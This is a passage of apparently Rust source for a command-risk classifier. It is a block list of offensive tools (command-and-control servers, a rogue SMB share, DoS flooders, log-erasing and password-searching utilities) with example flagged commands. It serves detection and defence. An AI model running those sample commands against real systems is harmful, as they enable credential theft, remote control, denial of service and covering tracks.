        // impacket's sniff.py and sniffer.py are left out: `sniffer` is
        // also Python's test watcher.
        source: "impacket examples karmaSMB (an SMB server answering any read with chosen content: clients that connect hand it their logins); ATT&CK T1557",
        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: Medium, reason: "serves a rogue file share (the logins of clients that connect pass through it)" }],
        flagged: &["sudo python3 karmaSMB.py -config karma.conf"],
        clean: &["karmaSMB.py -h"],
        ..P
    },
    Program {
        names: &[
            "teamserver", "merlinserver", "merlinserver-linux", "sliver-server", "hoaxshell",
            "villain", "pupysh", "posh-server", "mythic-cli", "powershell-empire", "starkiller",
        ],
        source: "Cobalt Strike's and Havoc's teamserver, https://github.com/Ne0nd0g/merlin, https://github.com/BishopFox/sliver, https://github.com/t3l3machus/hoaxshell and Villain, https://github.com/n1nj4sec/pupy, https://github.com/nettitude/PoshC2, https://github.com/its-a-feature/Mythic, https://github.com/BC-SECURITY/Empire (command-and-control servers: implants on other hosts connect back and take commands; ATT&CK T1071, T1219)",
        subs: &[Sub { words: &["!-h|--help|--version", "!version|help"], harm: Exfiltration, level: High, reason: "runs a command-and-control server (implants on other hosts connect to it)" }],
        flagged: &["sudo ./teamserver server --profile ./profiles/havoc.yaotl -v", "sudo python3 hoaxshell.py -s 10.0.0.5", "sliver-server daemon"],
        clean: &["sliver-server version", "hoaxshell.py -h"],
        ..P
    },
    Program {
        names: &["nimplant"],
        source: "https://github.com/chvancooten/NimPlant (compile builds implants; server starts the command-and-control server)",
        subs: &[Sub { words: &["server"], harm: Exfiltration, level: High, reason: "runs a command-and-control server (implants on other hosts connect to it)" }],
        flagged: &["python NimPlant.py server", "python3 ./NimPlant.py server"],
        clean: &["python NimPlant.py compile all"],
        ..P
    },
    Program {
        names: &["slowloris", "slowhttptest", "goldeneye", "thc-ssl-dos", "t50"],
        source: "https://github.com/gkbrk/slowloris, https://github.com/shekyan/slowhttptest, https://github.com/jseidl/GoldenEye, THC's thc-ssl-dos, t50 (floods and slow-request attacks that take a service down: ATT&CK T1498, T1499)",
        subs: &[Sub { words: &["!-h|--help"], harm: Destructive, level: Medium, reason: "floods a host with requests (a denial of service)" }],
        flagged: &["slowloris example.com", "python3 slowloris.py example.com", "slowhttptest -c 1000 -H -u https://example.com"],
        clean: &["slowloris -h"],
        ..P
    },
    Program {
        names: &["moonwalk"],
        source: "https://github.com/mufeedvh/moonwalk (start records the logs' and file times' state; finish restores it, erasing what happened in between: ATT&CK T1070)",
        subs: &[Sub { words: &["finish"], harm: Evasion, level: Medium, reason: "erases the traces left in logs and file times since it started" }],
        flagged: &["moonwalk finish"],
        clean: &["moonwalk start"],
        ..P
    },
    Program {
        names: &["usbkill"],
        source: "https://github.com/hephaest0s/usbkill (an anti-forensic kill switch: the machine shuts down when a USB device is plugged or unplugged)",
        subs: &[always(Destructive, Medium, "arms a kill switch that shuts the machine down on any USB change")],
        flagged: &["sudo python3 usbkill.py"],
        ..P
    },
    Program {
        names: &["eviltree"],
        source: "https://github.com/t3l3machus/eviltree (a tree that prints the lines of files matching a regular expression or keywords: -x and -k search the files for passwords)",
        subs: &[
            Sub { words: &["-x"], harm: Credential, level: Medium, reason: "searches files for passwords and prints the lines it finds" },
            Sub { words: &["-k"], harm: Credential, level: Medium, reason: "searches files for passwords and prints the lines it finds" },
        ],
        flagged: &["python3 eviltree.py -r /var/www -x \".{0,3}passw.{0,3}[=]{1}.{0,18}\" -v", "python3 eviltree.py -r /home -k passw,admin -v"],
        clean: &["python3 eviltree.py -r ."],
        ..P
    },
];
